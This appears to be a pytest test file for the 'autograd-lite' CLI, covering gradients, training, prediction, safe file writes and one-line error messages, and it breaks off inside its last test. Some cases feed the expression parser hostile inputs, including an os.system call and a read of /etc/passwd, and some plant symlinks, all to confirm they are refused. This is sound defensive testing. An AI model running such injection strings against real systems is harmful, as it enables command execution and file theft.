"""The autograd-lite command: in-process through `main(argv)` where it can be, and through real
processes for what only a process shows: exit statuses, the files it writes and never loses,
CSV input and checkpoints, each failure one line on stderr and never a traceback."""

import json
import math
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import time
import warnings
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from cli_process import command
from test_expression import HOSTILE

from autograd_lite import nn
from autograd_lite.cli import main
from autograd_lite.cli.common import format_loss, report

ERROR_PREFIX = "autograd-lite: error: "


def run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    status = main(argv)
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def assert_one_line_error(err: str, fragment: str = "") -> None:
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith(ERROR_PREFIX), err
    assert fragment in lines[0], err
    assert "Traceback" not in err


def printed_numbers(out: str) -> dict[str, float]:
    """{"f": value, "df/dx": gradient, ...} from the last lines `name = ... = number`."""
    numbers = {}
    for line in out.splitlines():
        match = re.fullmatch(r"(\S+) = (?:.* = )?(\S+)", line)
        if match:
            numbers[match.group(1)] = float(match.group(2))
    return numbers



def one_line_error(result: subprocess.CompletedProcess[str], status: int, fragment: str) -> None:
    assert result.returncode == status, (result.stdout, result.stderr)
    lines = result.stderr.splitlines()
    assert lines and lines[-1].startswith(ERROR_PREFIX), result.stderr
    assert fragment in lines[-1], result.stderr
    assert "Traceback" not in result.stderr
    # Only the error line (and perhaps progress lines before it) on stderr.
    assert not any(line.startswith(ERROR_PREFIX) for line in lines[:-1])


def hidden_files(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.startswith("."))


def write_csv(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path

# ---- grad -------------------------------------------------------------------------


def test_grad_prints_the_value_and_every_gradient(capsys: pytest.CaptureFixture[str]) -> None:
    status, out, err = run(["grad", "tanh(x*w + b)", "x=0.5", "w=-1.5", "b=2"], capsys)
    assert (status, err) == (0, "")
    t = math.tanh(0.5 * -1.5 + 2)  # worked by hand: d tanh(u)/du = 1 - tanh(u)**2
    assert printed_numbers(out) == pytest.approx(
        {"f": t, "df/dx": (1 - t * t) * -1.5, "df/dw": (1 - t * t) * 0.5, "df/db": 1 - t * t}
    )
    assert out.splitlines()[0] == f"f = tanh(x*w + b) = {t!r}"


def test_grad_of_an_unused_variable_is_zero(capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run(["grad", "x**3", "x=2", "y=5"], capsys)
    assert status == 0
    assert printed_numbers(out) == {"f": 8.0, "df/dx": 12.0, "df/dy": 0.0}


def test_grad_names_the_output_so_that_it_differs_from_the_variables(
    capsys: pytest.CaptureFixture[str],
) -> None:
    status, out, _ = run(["grad", "f*g", "f=3", "g=4"], capsys)
    assert status == 0
    assert printed_numbers(out) == {"f_": 12.0, "df_/df": 4.0, "df_/dg": 3.0}


def test_grad_accepts_an_expression_starting_with_minus_after_double_dash(
    capsys: pytest.CaptureFixture[str],
) -> None:
    status, out, _ = run(["grad", "--", "-x**2", "x=3"], capsys)
    assert status == 0
    assert printed_numbers(out) == {"f": -9.0, "df/dx": -6.0}


def test_grad_trace_prints_the_chain_rule_steps_before_the_result(
    capsys: pytest.CaptureFixture[str],
) -> None:
    status, out, _ = run(["grad", "x*y + x", "x=3", "y=4", "--trace"], capsys)
    assert status == 0
    trace, _, result = out.partition("\n\n")
    assert "backward from f" in trace
    # One step per edge of the graph: (x*y) -> +, x -> +, x -> *, y -> *.
    assert len([line for line in trace.splitlines() if "+=" in line]) == 4
    assert printed_numbers(result) == {"f": 15.0, "df/dx": 5.0, "df/dy": 3.0}


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".svg", ".dot"])
def test_grad_graph_writes_the_picture(
    suffix: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / f"graph{suffix}"
    status, _, err = run(["grad", "x*w", "x=3", "w=-2", "--graph", str(target)], capsys)
    assert (status, err) == (0, "")
    text = target.read_text()
    if suffix == ".svg":
        # The SVG's visible text, with entities such as &#45; decoded.
        text = "\n".join(ElementTree.fromstring(text).itertext())
    else:
        assert text.startswith("digraph")
    # The graph shows each variable with its data and grad (dx = w = -2, dw = x = 3).
    for fragment in ("x", "w", "data 3.0000", "grad -2.0000", "data -2.0000", "grad 3.0000"):
        assert fragment in text
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]


def test_grad_graph_with_trace_names_the_nodes_as_the_trace_does(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "graph.dot"
    status, out, _ = run(["grad", "(x + 1)*x", "x=2", "--trace", "--graph", str(target)], capsys)
    assert status == 0
    # The sum x + 1 is unlabelled: the trace and the drawing both name it by its expression.
    assert "df/dx += df/d(x + 1) * d(x + 1)/dx" in out.partition("\n\n")[0]
    assert "{ x + 1 |" in target.read_text()


@pytest.mark.parametrize(
    ("graph", "fragment"),
    [
        ("out.gif", "unknown format '.gif'"),
        ("out", "unknown format ''"),
        ("missing/out.svg", "does not exist"),
    ],
)
def test_grad_graph_errors_leave_no_file(
    graph: str, fragment: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(["grad", "x*2", "x=1", "--graph", str(tmp_path / graph)], capsys)
    assert (status, out) == (2, "")
    assert_one_line_error(err, fragment)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(shutil.which("dot") is not None, reason="needs a machine without Graphviz")
def test_grad_graph_png_without_graphviz_is_a_clear_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("autograd_lite.render._resvg", lambda: None)  # nor resvg-py
    status, out, err = run(["grad", "x*2", "x=1", "--graph", str(tmp_path / "g.png")], capsys)
    assert (status, out) == (2, "")
    assert_one_line_error(err, "needs the Graphviz 'dot' program")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(("source", "fragment", "column"), HOSTILE)
def test_grad_rejects_the_hostile_corpus_in_one_line(
    source: str, fragment: str, column: int | None, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(["grad", "--", source, "x=1", "y=2"], capsys)
    assert (status, out) == (2, "")
    assert_one_line_error(err, fragment)
    if column is not None:
        assert err.rstrip().endswith(f"at column {column}")


@pytest.mark.parametrize(
    ("argv", "fragment"),
    [
        (["log(x)", "x=-1"], "log: expected a positive number, got -1.0 in log() at column 1"),
        (["sqrt(x)", "x=-4"], "sqrt: expected a non-negative number"),
        (["1/(x - y)", "x=1", "y=1"], "division by zero"),
        (["10**10**10"], "overflow"),
        (["exp(x)", "x=710"], "overflow: exp() gives inf"),
        (["x**0.5", "x=-2"], "no real value"),
    ],
)
def test_math_errors_exit_with_status_1(
    argv: list[str], fragment: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(["grad", *argv], capsys)
    assert (status, out) == (1, "")
    assert_one_line_error(err, fragment)


@pytest.mark.parametrize(
    ("assignments", "fragment"),
    [
        (["x=abc"], "'x=abc': 'abc' is not a number"),
        (["x="], "'' is not a number"),
        (["x=inf"], "expected a finite number"),
        (["x=nan"], "expected a finite number"),
        (["x"], "expected NAME=VALUE, got 'x'"),
        (["=1"], "not a valid ASCII identifier"),
        (["1x=1"], "not a valid ASCII identifier"),
        (["exp=1"], "name of a function"),
        (["lambda=1"], "Python keyword"),
        (["x=1", "x=2"], "given a value twice"),
        ([], "undeclared variable 'x' (give it a value, as in x=1.0) at column 1"),
        (["y=1"], "undeclared variable 'x'"),
    ],
)
def test_bad_variables_exit_with_status_2(
    assignments: list[str], fragment: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(["grad", "x + 1", *assignments], capsys)
    assert (status, out) == (2, "")
    assert_one_line_error(err, fragment)


@pytest.mark.parametrize(
    ("expression", "fragment"),
    [
        ("tahn(x)", "call of 'tahn' (did you mean tanh? only abs, exp,"),
        ("sigmiod(x) + 1", "did you mean sigmoid?"),
        ("x * tahn", "undeclared variable 'tahn' (did you mean tanh(...)? give it a value"),
        ("x + ww", "undeclared variable 'ww' (did you mean w? give it a value, as in ww=1.0)"),
    ],
)
def test_a_typo_gets_the_name_it_meant(
    expression: str, fragment: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(["grad", expression, "x=1", "w=2"], capsys)
    assert (status, out) == (2, "")
    assert_one_line_error(err, fragment)


def test_a_name_near_no_other_gets_no_suggestion(capsys: pytest.CaptureFixture[str]) -> None:
    status, _, err = run(["grad", "foo(x) + qq", "x=1"], capsys)
    assert status == 2
    assert_one_line_error(err, "call of 'foo' (only abs, exp,")
    assert "did you mean" not in err


@pytest.mark.parametrize(
    ("expression", "fragment"),
    [
        ("2x", "2x needs a '*': write 2*x at column 1"),
        ("y + 3sin(x)", "3sin needs a '*': write 3*sin at column 5"),
        ("1.5e3x", "write 1.5e3*x at column 1"),
        ("2(x + 1)", "a number before '(' multiplies nothing: write 2*(...) for a product"),
        ("x y", "two terms side by side need a '*': write x*y at column 3"),
        ("(x + 1) y", "write (...)*y at column 9"),
    ],
)
def test_a_product_written_without_a_star_says_to_write_one(
    expression: str, fragment: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(["grad", expression, "x=1", "y=2"], capsys)
    assert (status, out) == (2, "")
    assert_one_line_error(err, fragment)


def test_grad_help_lists_every_function_an_expression_can_call(
    capsys: pytest.CaptureFixture[str],
) -> None:
    status, out, _ = run(["grad", "--help"], capsys)
    assert status == 0
    listed = set(out.split("parentheses and the functions", 1)[1].strip(" .\n").split())
    one_operand = {"abs", "exp", "log", "log1p", "sqrt", "tanh", "sigmoid", "relu", "sin", "cos"}
    assert listed == one_operand
    for name in sorted(listed):  # each one can be called, as listed
        assert run(["grad", f"{name}(x)", "x=0.5"], capsys)[0] == 0


# ---- argparse, help -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "fragment"),
    [
        ([], "the following arguments are required: COMMAND"),
        (["frobnicate"], "invalid choice: 'frobnicate'"),
        (["grad"], "the following arguments are required: EXPRESSION"),
        (["grad", "x", "x=1", "--bogus"], "unrecognized arguments: --bogus"),
        # An expression starting with '-' looks like an option: it goes after --.
        (["grad", "-x", "x=1"], "unrecognized arguments: -x"),
        (["demo", "--steps", "0"], "argument --steps: expected a positive integer, got '0'"),
        (["demo", "--steps", "many"], "argument --steps: expected a positive integer"),
        (["train", "--lr", "-1"], "argument --lr: expected a positive number, got '-1'"),
        (["train", "--lr", "nan"], "argument --lr: expected a positive number"),
        (["train", "--hidden", "16,a"], "argument --hidden: expected comma-separated"),
        (["train", "--optimizer", "rmsprop"], "argument --optimizer: invalid choice"),
        (["train", "--batch-size", "0"], "argument --batch-size"),
        (["predict", "model.json"], "the following arguments are required: FILE.csv"),
    ],
)
def test_usage_errors_are_one_line_with_status_2(
    argv: list[str], fragment: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(argv, capsys)
    assert (status, out) == (2, "")
    assert_one_line_error(err, fragment)


@pytest.mark.parametrize(
    ("command", "example"),
    [
        ("grad", 'autograd-lite grad "tanh(x*w + b)" x=0.5 w=-1.5 b=2'),
        ("demo", "autograd-lite demo --out demo/"),
        ("train", "autograd-lite train --data circles --hidden 16,16"),
        ("predict", "autograd-lite predict model.json points.csv"),
    ],
)
def test_help_of_each_command_shows_an_example(
    command: str, example: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run([command, "--help"], capsys)
    assert (status, err) == (0, "")
    assert f"usage: autograd-lite {command}" in out
    assert example in out


def test_top_level_help_lists_the_commands(capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run(["--help"], capsys)
    assert status == 0
    for name in ("grad", "demo", "train", "predict"):
        assert name in out


# ---- demo ---------------------------------------------------------------------------


def _moons_accuracy(model: nn.MLP, seed: int) -> float:
    X, y = nn.data.make_moons(100, noise=0.1, seed=seed, signed=True)
    scores = nn.train.predict(model, X)
    return sum((score > 0) == (label > 0) for score, label in zip(scores, y)) / len(y)


@pytest.mark.slow
def test_demo_trains_the_moons_to_high_accuracy_and_writes_three_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out_dir = tmp_path / "new" / "demo"
    status, out, _ = run(["demo", "--out", str(out_dir)], capsys)
    assert status == 0
    assert sorted(p.name for p in out_dir.iterdir()) == ["boundary.svg", "model.json", "neuron.svg"]
    model = nn.MLP.load(out_dir / "model.json")
    assert (model.nin, model.sizes, model.num_parameters) == (2, [16, 16, 1], 337)
    # The printed accuracy is the saved model's, recomputed here on the same moons.
    accuracy = _moons_accuracy(model, seed=0)
    assert f"accuracy {accuracy:.1%}" in out
    assert accuracy >= 0.97  # micrograd's demo reaches 100% with this recipe


@pytest.mark.slow
def test_demo_pictures_are_well_formed_svg(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, _, _ = run(["demo", "--steps", "2", "--out", str(tmp_path)], capsys)
    assert status == 0
    svg = "{http://www.w3.org/2000/svg}"
    boundary = ElementTree.parse(tmp_path / "boundary.svg").getroot()
    assert boundary.tag == f"{svg}svg"
    groups = {g.get("id"): g for g in boundary.iter(f"{svg}g")}
    # One mark per moons sample, in its class's group.
    assert sum(len(list(groups[f"points-{c}"].iter(f"{svg}use"))) for c in (0, 1)) == 100
    neuron_text = (tmp_path / "neuron.svg").read_text()
    ElementTree.fromstring(neuron_text)
    for label in ("w1", "w2", "x1", "x2", "relu", "dot", "out"):
        assert label in neuron_text


def test_demo_into_a_file_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("keep me")
    status, out, err = run(["demo", "--steps", "1", "--out", str(blocker)], capsys)
    assert (status, out) == (2, "")
    assert_one_line_error(err, "exists and is not a directory")
    assert blocker.read_text() == "keep me"


# ---- train and predict ---------------------------------------------------------------


def test_train_on_a_built_in_set_saves_a_model_that_predict_reads(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    model_path = tmp_path / "model.json"
    argv = ["train", "--data", "blobs", "--samples", "30", "--epochs", "2", "--hidden", "4"]
    status, out, _ = run([*argv, "--save", str(model_path)], capsys)
    assert status == 0
    # A fifth of the 30 samples is held out: 24 train.
    assert "on 24 samples of blobs (3 classes, 6 held out for testing)" in out
    assert re.search(r"final loss \d+\.\d+, accuracy \d+\.\d%", out)
    model = nn.MLP.load(model_path)
    assert (model.nin, model.sizes) == (2, [4, 3])


def _write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def test_train_reads_a_csv_with_a_header(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = "".join(f"{i / 10},{-i / 10},{1.0},{i % 2}\n" for i in range(10))
    data = _write(tmp_path / "d.csv", "a,b,c,label\n\n" + rows)
    status, out, _ = run(["train", "--data", str(data), "--epochs", "1"], capsys)
    assert status == 0
    assert "MLP(3, [16, 16, 1])" in out  # 3 feature columns, 2 classes
    assert "on 8 samples of" in out and "(2 classes, 2 held out for testing)" in out


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("1,2,0\n3,4\n", "line 2: expected 3 columns, got 2"),
        ("x,y,label\n1,2,0\n3,four,1\n", "line 3, column 2: 'four' is not a number"),
        ("1,2,0\n3,4,1.5\n", "line 2: the label must be a class number"),
        ("1,2,0\n3,4,-1\n", "line 2: the label must be a class number"),
        ("1,2,0\n3,inf,1\n", "line 2, column 2: expected a finite number"),
        ("1,2,0\n3,4,0\n", "a classifier needs at least 2 classes"),
        ("1\n2\n", "expected feature columns and a label column"),
        ("", "no data rows"),
        ("a,b,label\n", "no data rows"),
        ('1,2,0\n"3,4,1\n', "malformed CSV: unexpected end of data"),
    ],
)
def test_malformed_csv_rows_are_reported_with_their_line(
    text: str, fragment: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = _write(tmp_path / "d.csv", text)
    status, out, err = run(["train", "--data", str(data), "--epochs", "1"], capsys)
    assert status == 2
    assert "final" not in out
    assert_one_line_error(err, fragment)


def test_train_errors_for_missing_or_binary_data_and_bad_save_path(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, _, err = run(["train", "--data", str(tmp_path / "none.csv")], capsys)
    assert status == 2
    assert_one_line_error(err, "neither a built-in data set")
    binary = tmp_path / "b.csv"
    binary.write_bytes(b"\xff\xfe\x00\x81garbage")
    status, _, err = run(["train", "--data", str(binary)], capsys)
    assert status == 2
    assert_one_line_error(err, "not a text CSV file")
    status, _, err = run(["train", "--save", str(tmp_path / "no" / "m.json")], capsys)
    assert status == 2
    assert_one_line_error(err, "does not exist")
    status, _, err = run(["train", "--data", "moons", "--samples", "1"], capsys)
    assert status == 2
    assert_one_line_error(err, "n must be an int >= 2")


@pytest.fixture
def difference_model(tmp_path: Path) -> Path:
    """A saved linear model whose output is x1 - x2, so its predictions are known by hand."""
    model = nn.MLP(2, [1], seed=0)
    (neuron,) = model.layers[0].neurons
    neuron.w[0].data, neuron.w[1].data, neuron.b.data = 1.0, -1.0, 0.0
    path = tmp_path / "model.json"
    model.save(path)
    return path


def test_predict_prints_class_and_output_per_row(
    difference_model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = _write(tmp_path / "p.csv", "x1,x2\n3,1\n1,3\n0.5,0.25\n")
    status, out, _ = run(["predict", str(difference_model), str(data)], capsys)
    assert status == 0
    assert out.splitlines() == ["prediction,output0", "1,2.0", "0,-2.0", "1,0.25"]


def test_predict_ignores_a_label_column(
    difference_model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = _write(tmp_path / "p.csv", "3,1,0\n1,3,1\n")
    status, out, _ = run(["predict", str(difference_model), str(data)], capsys)
    assert status == 0
    assert out.splitlines()[1:] == ["1,2.0", "0,-2.0"]


@pytest.mark.parametrize(
    ("model_text", "data_text", "fragment"),
    [
        (None, "1,2\n", "expected 2 columns (or 3 with a label), got 4"),
        ("{not json", "1,2\n", "not a valid JSON checkpoint"),
        ('{"format": "something else"}', "1,2\n", "not an autograd-lite checkpoint"),
        ("[1, 2]", "1,2\n", "not an autograd-lite checkpoint"),
    ],
)
def test_predict_errors(
    model_text: str | None,
    data_text: str,
    fragment: str,
    difference_model: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    if model_text is not None:
        difference_model.write_text(model_text)
    data = _write(tmp_path / "p.csv", data_text if model_text else "1,2,3,4\n")
    status, out, err = run(["predict", str(difference_model), str(data)], capsys)
    assert (status, out) == (2, "")
    assert_one_line_error(err, fragment)


def test_predict_with_a_missing_model_or_a_model_that_is_not_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = _write(tmp_path / "p.csv", "1,2\n")
    status, _, err = run(["predict", str(tmp_path / "none.json"), str(data)], capsys)
    assert status == 2
    assert_one_line_error(err, "does not exist")
    binary = tmp_path / "binary.json"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\xff\xff")
    status, _, err = run(["predict", str(binary), str(data)], capsys)
    assert status == 2
    assert_one_line_error(err, f"{binary}: not a valid JSON checkpoint")


def test_checkpoint_written_by_train_is_json(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "m.json"
    status, _, _ = run(
        ["train", "--samples", "8", "--epochs", "1", "--hidden", "", "--save", str(path)], capsys
    )
    assert status == 0
    document = json.loads(path.read_text())
    assert document["config"]["sizes"] == [1]  # no hidden layer: a logistic regression


# ---- end to end, through a real process -----------------------------------------------


@pytest.mark.slow
def test_process_grad_success(tmp_path: Path) -> None:
    result = command("grad", "x*y + sin(x)", "x=0", "y=3", cwd=tmp_path)
    assert (result.returncode, result.stderr) == (0, "")
    # d/dx = y + cos(x) = 4, d/dy = x = 0 at (0, 3).
    assert printed_numbers(result.stdout) == {"f": 0.0, "df/dx": 4.0, "df/dy": 0.0}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("argv", "status", "fragment"),
    [
        (["grad", "__import__('os').system('echo PWNED')"], 2, "attribute access"),
        (["grad", "open('/etc/passwd').read()"], 2, "attribute access"),
        (["grad", "--", "-" * 9000 + "x", "x=1"], 2, "nested"),
        (["grad", "10**10**10"], 1, "overflow"),
        (["grad", "log(x)", "x=-1"], 1, "log: expected a positive number"),
        (["frobnicate"], 2, "invalid choice"),
        (["train", "--data", "nowhere.csv"], 2, "neither a built-in data set"),
    ],
)
def test_process_errors_are_one_line_without_traceback(
    argv: list[str], status: int, fragment: str, tmp_path: Path
) -> None:
    result = command(*argv, cwd=tmp_path)
    assert (result.returncode, result.stdout) == (status, "")
    assert_one_line_error(result.stderr, fragment)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow
def test_process_graph_leaves_stderr_clean(tmp_path: Path) -> None:
    result = command("grad", "x*2", "x=1", "--graph", "g.svg", cwd=tmp_path)
    assert (result.returncode, result.stderr) == (0, "")
    assert (tmp_path / "g.svg").read_text().lstrip().startswith(("<?xml", "<svg", "<!--"))


def test_parser_warnings_do_not_reach_the_user(capsys: pytest.CaptureFixture[str]) -> None:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        status, _, err = run(["grad", "1if 1 else 2"], capsys)
    assert status == 2
    assert_one_line_error(err, "conditional expression")
    assert not [w for w in caught if issubclass(w.category, SyntaxWarning)]


def test_csv_with_a_byte_order_mark_keeps_its_first_row(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "bom.csv"
    data.write_bytes(b"\xef\xbb\xbf0.1,0.2,0\n0.3,0.4,1\n0.5,0.1,1\n")
    model = tmp_path / "m.json"
    assert (
        run(["train", "--data", str(data), "--epochs", "1", "--save", str(model)], capsys)[0] == 0
    )
    status, out, _ = run(["predict", str(model), str(data)], capsys)
    assert status == 0
    assert len(out.strip().splitlines()) == 1 + 3  # header + one line per row


def test_absurd_sizes_are_refused_before_building_anything(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = _write(tmp_path / "labels.csv", "0.1,0.2,0\n0.3,0.4,1000000000\n")
    status, _, err = run(["train", "--data", str(data), "--epochs", "1"], capsys)
    assert status == 2
    assert_one_line_error(err, "line 2: class number 1000000000 is beyond the limit of 100")
    status, _, err = run(["train", "--data", "moons", "--hidden", "100000000"], capsys)
    assert status == 2
    assert_one_line_error(err, "more than 1024")


def test_demo_refuses_a_directory_in_place_of_a_file_before_training_and_loses_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Issue 12, finding 1: the failed demo used to delete the previous model.json.
    (tmp_path / "model.json").write_text("previous model")
    (tmp_path / "boundary.svg").mkdir()
    status, out, err = run(["demo", "--steps", "2", "--out", str(tmp_path)], capsys)
    assert (status, out) == (2, "")  # refused before training: nothing printed
    assert_one_line_error(err, "boundary.svg': it is a directory")
    assert (tmp_path / "model.json").read_text() == "previous model"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["boundary.svg", "model.json"]


@pytest.mark.slow
def test_the_whole_hostile_corpus_end_to_end_through_subprocesses(tmp_path: Path) -> None:
    def attempt(source: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "autograd_lite", "grad", "--", source, "x=1", "y=2"],
            capture_output=True,
            text=True,
            cwd=tmp_path,
            timeout=120,
            check=False,
        )

    # A NUL byte cannot travel in argv; those cases run in-process above.
    corpus = [case for case in HOSTILE if "\x00" not in case[0]]
    # A few at a time: about 0.2 s of start-up each, on two cores.
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(attempt, [source for source, _, _ in corpus]))
    assert len(results) >= 50
    for (source, fragment, _), result in zip(corpus, results):
        assert (result.returncode, result.stdout) == (2, ""), source
        assert_one_line_error(result.stderr, fragment)
    assert list(tmp_path.iterdir()) == []


# ---- files the commands write: never lost, half-written or a planted non-regular file ----


@pytest.mark.slow
def test_failed_demo_keeps_the_previous_model(tmp_path: Path) -> None:
    # Finding 1: the rollback of a failed demo deleted the user's previous model.json.
    out = tmp_path / "dl"
    out.mkdir()
    (out / "model.json").write_text("previous")
    (out / "boundary.svg").mkdir()
    result = command("demo", "--out", "dl", "--steps", "1", cwd=tmp_path)
    one_line_error(result, 2, "boundary.svg': it is a directory")
    assert result.stdout == ""  # refused before any training
    assert (out / "model.json").read_text() == "previous"
    assert hidden_files(out) == []


@pytest.fixture
def tmpfs(mount_tmpfs: Callable[[str], Path]) -> Path:
    """A small tmpfs (16 KiB: four pages); skipped where this process may not mount one."""
    return mount_tmpfs("16k")


@pytest.mark.slow
def test_demo_on_a_full_disk_keeps_every_old_file(tmpfs: Path) -> None:
    # Finding 1, "same on a full disk": the three new files (50 KB) do not fit in 16 KiB.
    old = {"model.json": "old model", "neuron.svg": "old neuron", "boundary.svg": "old boundary"}
    for name, text in old.items():
        (tmpfs / name).write_text(text)
    result = command("demo", "--out", str(tmpfs), "--steps", "2", "--quiet", cwd=tmpfs.parent)
    one_line_error(result, 1, "No space left on device")
    assert {name: (tmpfs / name).read_text() for name in old} == old
    assert hidden_files(tmpfs) == []
    assert "wrote" not in result.stdout


@pytest.mark.slow
def test_a_read_only_file_system_is_refused_before_training(tmpfs: Path) -> None:
    subprocess.run(["mount", "-o", "remount,ro", str(tmpfs)], check=True)
    result = command("train", "--epochs", "1", "--save", str(tmpfs / "m.json"), cwd=tmpfs.parent)
    one_line_error(result, 2, "read-only file system")
    assert result.stdout == ""


@pytest.mark.slow
def test_save_refuses_a_null_device_before_training(tmp_path: Path, null_device: Path) -> None:
    # Finding 2: as root, `--save /dev/null` printed "wrote /dev/null" and made it a file.
    # (A copy of the device in tmp_path: a regression must not break the machine's.)
    result = command("train", "--epochs", "1", "--save", str(null_device), cwd=tmp_path)
    one_line_error(result, 2, "null': it is a character device, not a regular file")
    assert result.stdout == ""
    assert stat.S_ISCHR(null_device.lstat().st_mode)


@pytest.mark.slow
def test_save_refuses_a_fifo_and_a_symlink(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo.json")
    result = command("train", "--epochs", "1", "--save", "fifo.json", cwd=tmp_path)
    one_line_error(result, 2, "it is a FIFO")
    assert stat.S_ISFIFO((tmp_path / "fifo.json").lstat().st_mode)
    (tmp_path / "link.json").symlink_to(tmp_path / "target.json")
    result = command("train", "--epochs", "1", "--save", "link.json", cwd=tmp_path)
    one_line_error(result, 2, "it is a symbolic link")
    assert (tmp_path / "link.json").is_symlink() and not (tmp_path / "target.json").exists()


@pytest.mark.slow
def test_save_keeps_the_permissions_of_the_file_it_replaces(tmp_path: Path) -> None:
    # Finding 2: re-saving over a chmod 600 checkpoint left it 0644.
    (tmp_path / "m.json").write_text("old")
    (tmp_path / "m.json").chmod(0o600)
    result = command("train", "--epochs", "1", "--quiet", "--save", "m.json", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE((tmp_path / "m.json").stat().st_mode) == 0o600
    assert json.loads((tmp_path / "m.json").read_text())["model"] == "MLP"
    assert hidden_files(tmp_path) == []


@pytest.mark.slow
def test_graph_refuses_a_planted_symlink_and_writes_no_predictable_temporary(
    tmp_path: Path,
) -> None:
    # Finding 3: a symlink at the old temporary name made --graph overwrite its target.
    victim = tmp_path / "victim"
    victim.write_text("precious")
    for pid_guess in range(os.getpid(), os.getpid() + 50):
        (tmp_path / f".g.{pid_guess}.partial.svg").symlink_to(victim)
    result = command("grad", "x*2", "x=1", "--graph", "g.svg", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert victim.read_text() == "precious"
    assert "<svg" in (tmp_path / "g.svg").read_text()
    (tmp_path / "h.svg").symlink_to(victim)
    result = command("grad", "x*2", "x=1", "--graph", "h.svg", cwd=tmp_path)
    one_line_error(result, 2, "it is a symbolic link")
    assert victim.read_text() == "precious"


@pytest.mark.slow
@pytest.mark.parametrize(
    ("save", "fragment"),
    [
        ("", "expected a file name"),
        (".", "not a file name"),
        ("sub", "'sub': it is a directory"),
        ("nodir/m.json", "does not exist"),
        ("/proc/m.json", "cannot write '/proc/m.json'"),  # a file system that takes no files
    ],
)
def test_bad_save_paths_are_refused_before_training(
    tmp_path: Path, save: str, fragment: str
) -> None:
    (tmp_path / "sub").mkdir()
    result = command("train", "--epochs", "1", "--save", save, cwd=tmp_path)
    one_line_error(result, 2, fragment)
    assert "training" not in result.stdout


def signal_during_training(tmp_path: Path, signum: int) -> tuple[int, str]:
    """Send `signum` to `train --save` a second into training; its exit status and stderr."""
    process = subprocess.Popen(
        [sys.executable, "-m", "autograd_lite", "train", "--epochs", "100000", "--save", "m.json"],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    assert process.stdout.readline().startswith("training")
    time.sleep(1.0)
    process.send_signal(signum)
    _, stderr = process.communicate(timeout=60)
    return process.returncode, stderr


@pytest.mark.slow
def test_sigterm_during_train_save_leaves_no_files(tmp_path: Path) -> None:
    # Finding 4: SIGTERM during `train --save` left 20-29 MB hidden temporary files.
    status, stderr = signal_during_training(tmp_path, signal.SIGTERM)
    assert status == 143
    assert stderr.splitlines()[-1] == f"{ERROR_PREFIX}terminated"
    assert "Traceback" not in stderr
    assert list(tmp_path.iterdir()) == []


# ---- errors: one line and a documented exit status, never a traceback --------------------


def test_a_non_finite_weight_with_a_finite_loss_is_reported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from autograd_lite import nn

    real_fit = nn.train.fit

